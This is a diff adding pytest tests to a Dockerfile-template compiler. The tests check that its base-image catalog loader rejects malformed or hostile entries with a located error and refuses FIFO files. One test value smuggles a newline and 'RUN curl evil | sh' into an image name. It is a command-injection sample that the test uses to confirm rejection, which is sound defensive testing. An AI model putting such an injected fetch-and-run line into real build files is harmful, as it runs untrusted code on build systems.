@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
 
 from compiler.errors import EnvcError
 from compiler.render.templating import load_catalog, render, template_environment
+from tests.conftest import PROJECT
 
 
 def repo_with(tmp_path: Path, templates: dict[str, str]) -> Path:
@@ -82,3 +84,50 @@ def test_a_broken_catalog_is_a_clear_error(tmp_path: Path) -> None:
     root = repo_with(tmp_path, {"base-images.yaml": "catalog_version: 1\ncpu: x\n"})
     with pytest.raises(EnvcError, match="not a valid base-image catalog"):
         load_catalog(root)
+
+
+def test_the_committed_catalog_schema_is_generated() -> None:
+    from compiler.render.templating import catalog_json_schema
+
+    committed = json.loads((PROJECT / "schemas/catalog.schema.json").read_text())
+    assert committed == catalog_json_schema()
+
+
+CATALOG = (
+    "catalog_version: 1\nmicromamba: m/mm:1\ncpu: my/cpu\ngpu: {'12.4': my/gpu}\n"
+    "python: my/python:{version}\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("change", "where"),
+    [
+        (("cpu: my/cpu", 'cpu: "my/cpu\\nRUN curl evil | sh"'), ":3:6:"),
+        (("gpu: {'12.4': my/gpu}", "gpu: {}"), ":4:6:"),
+        (("gpu: {'12.4': my/gpu}", "gpu: {'twelve': my/gpu}"), ":4:"),
+        (("python: my/python:{version}", "python: my/python:3.12"), ":5:9:"),
+        (("micromamba: m/mm:1\n", ""), ":1:1:"),
+        (("catalog_version: 1", "catalog_version: 99999999999999999999"), ":1:18:"),
+    ],
+)
+def test_a_hostile_catalog_is_a_located_error(
+    tmp_path: Path, change: tuple[str, str], where: str
+) -> None:
+    root = repo_with(tmp_path, {"base-images.yaml": CATALOG.replace(*change)})
+    with pytest.raises(EnvcError) as raised:
+        load_catalog(root)
+    message = str(raised.value)
+    assert message.startswith(str(root / "templates/base-images.yaml")), message
+    assert where in message and "not a valid base-image catalog" in message
+
+
+def test_a_catalog_or_template_that_is_a_fifo_is_refused_not_waited_on(tmp_path: Path) -> None:
+    import os
+
+    root = repo_with(tmp_path, {"ok.j2": "ok\n"})
+    os.mkfifo(root / "templates" / "base-images.yaml")
+    os.mkfifo(root / "templates" / "Dockerfile.pip.j2")
+    with pytest.raises(EnvcError, match="not a regular file"):
+        load_catalog(root)
+    with pytest.raises(EnvcError, match="not a regular file"):
+        render(template_environment(root), "Dockerfile.pip.j2", {})
